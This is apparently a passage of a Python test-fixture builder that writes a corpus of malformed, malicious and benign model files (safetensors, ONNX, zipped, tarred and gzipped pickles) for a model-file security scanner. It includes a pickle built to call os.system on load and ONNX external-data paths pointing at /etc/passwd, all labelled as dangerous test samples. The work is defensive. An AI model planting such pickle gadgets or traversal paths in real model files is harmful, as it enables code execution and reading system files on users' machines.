        return struct.pack("<Q", len(h)) + h + data

    def t(a: int, z: int) -> str:
        return f'{{"dtype":"F32","shape":[2],"data_offsets":[{a},{z}]}}'

    cases = {
        "overlap": raw(f'{{"a":{t(0, 8)},"b":{t(4, 12)}}}', bytes(12)),
        "trailing-bytes": raw(f'{{"a":{t(0, 8)}}}', bytes(8) + b"PK\x03\x04polyglot"),
        "hole": raw(f'{{"a":{t(0, 8)},"b":{t(12, 20)}}}', bytes(20)),
        "offset-past-eof": raw(f'{{"a":{t(0, 8)}}}', bytes(4)),
        "duplicate-key": raw(f'{{"a":{t(0, 8)},"a":{t(0, 8)}}}', bytes(8)),
        "leading-space": raw(f' {{"a":{t(0, 8)}}}', bytes(8)),
        "header-past-eof": struct.pack("<Q", 1 << 40) + b"{}",
    }
    for name, blob in cases.items():
        b.add(f"safetensors-{name}", f"safetensors/{name}.safetensors", blob,
              f"safetensors header: {name}", MALFORMED, None)


def onnx_family(b: Builder) -> None:
    from onnx import TensorProto, helper

    def model(init: TensorProto) -> bytes:
        x, y = (helper.make_tensor_value_info(n, TensorProto.FLOAT, [4]) for n in ("X", "Y"))
        graph = helper.make_graph([helper.make_node("Add", ["X", "W"], ["Y"])], "g", [x], [y],
                                  initializer=[init])
        m = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
        return bytes(m.SerializeToString())

    def external(location: str) -> TensorProto:
        t = TensorProto(name="W", data_type=TensorProto.FLOAT, dims=[4])
        t.data_location = TensorProto.EXTERNAL
        for key, value in (("location", location), ("offset", "0"), ("length", "16")):
            e = t.external_data.add()
            e.key, e.value = key, value
        return t

    for name, loc in (("onnx-external-traversal", "../../etc/passwd"),
                      ("onnx-external-absolute", "/etc/passwd")):
        b.add(name, f"onnx/{name}.onnx", model(external(loc)),
              f"external_data location {loc} (CVE-2024-27318 class)", DANGEROUS, None)
    w = helper.make_tensor("W", TensorProto.FLOAT, [4], [1.0, 2.0, 3.0, 4.0])
    b.add("benign-onnx", "onnx/benign.onnx", model(w), "ONNX Add with an embedded initializer",
          SAFE, None)
    b.add("benign-onnx-external", "onnx/ext/model.onnx", model(external("model.onnx_data")),
          "ONNX with external data in the same directory", SAFE, None)
    b.add("benign-onnx-external-data", "onnx/ext/model.onnx_data", struct.pack("<4f", 1, 2, 3, 4),
          "raw external-data blob of benign-onnx-external", SUSPICIOUS_OR_SAFE, None)


def archive_family(b: Builder) -> None:
    """Pickles wrapped in plain zip, nested zip, tar and gzip (§2.2 item 10); not run."""
    evil = P2 + call(glob0("os", "system"), s0("touch /dev/null")) + STOP
    nice = pickle.dumps({"w": [1.0, 2.0]}, 2)

    def tar(members: dict[str, bytes]) -> bytes:
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w") as t:
            for name, data in members.items():
                info = tarfile.TarInfo(name)
                info.size = len(data)
                t.addfile(info, io.BytesIO(data))
        return buf.getvalue()

    def zipped(members: dict[str, bytes]) -> bytes:
        return make_zip(ZipEntry(n, d) for n, d in members.items())

    b.add("zip-pickle", "archive/payload.zip", zipped({"data.pkl": evil}),
          "zip with a malicious data.pkl", DANGEROUS, None)
    b.add("zip-nested-pickle", "archive/nested.zip",
          zipped({"inner.zip": zipped({"model/data.pkl": evil})}),
          "zip inside a zip holding a malicious pickle", DANGEROUS, None)
    b.add("tar-pickle", "archive/payload.tar", tar({"model/data.pkl": evil}),
          "tar holding a malicious pickle (torch v0.1.1-style container)", DANGEROUS, None)
    b.add("gzip-pickle", "archive/payload.pkl.gz", gzip.compress(evil, mtime=0),
          "gzip-compressed malicious pickle", DANGEROUS, None)
    b.add("benign-zip-pickle", "archive/benign.zip", zipped({"data.pkl": nice}),
          "zip with a benign pickle", SAFE, None)
    b.add("benign-tar-pickle", "archive/benign.tar",
          tar({"model/data.pkl": nice, "model/config.json": b"{}"}), "tar with a benign pickle",
          SAFE, None)
    b.add("benign-gzip-pickle", "archive/benign.pkl.gz", gzip.compress(nice, mtime=0),
          "gzip-compressed benign pickle", SAFE, None)
# fmt: on


def available(modules: Iterable[str]) -> bool:
    """Whether every module can be imported (without importing it)."""
    import importlib.util

    try:
        return all(importlib.util.find_spec(m) is not None for m in modules)
    except (ImportError, ValueError):
        return False


# (family name, builder, modules it needs): families whose modules are missing are skipped
FAMILIES: tuple[tuple[str, Callable[[Builder], None], tuple[str, ...]], ...] = (
    ("pickle-gadgets", pickle_gadgets, ()),
    ("pickle-tricks", pickle_tricks, ()),
    ("pickle-benign", pickle_benign, ()),
    ("masquerade", masquerade, ()),
    ("archives", archive_family, ()),
    ("torch", torch_family, ("torch",)),
    ("joblib", joblib_family, ("joblib", "numpy", "sklearn")),
    ("numpy", numpy_family, ("numpy",)),
    ("gguf", gguf_family, ("gguf", "numpy")),
    ("keras", keras_family, ()),
    ("safetensors", safetensors_family, ("safetensors", "numpy")),
    ("onnx", onnx_family, ("onnx",)),
)


def build_corpus(root: Path | str, families: Iterable[str] | None = None) -> list[Sample]:
    """Write the corpus into ``root`` (created); return the samples that could be built."""
    b = Builder(Path(root).resolve())
    (b.root / "canary").mkdir(parents=True, exist_ok=True)
    wanted = None if families is None else set(families)
    for name, build, modules in FAMILIES:
        if (wanted is None or name in wanted) and available(modules):
            build(b)
    return b.samples


if __name__ == "__main__":  # python tests/scan/corpus.py DIR: build and list
    import sys

    for s in build_corpus(sys.argv[1] if len(sys.argv) > 1 else "scan-corpus"):
        print(f"{s.expected:<18} {s.loader or '-':<7} {s.path}  ({s.technique})")
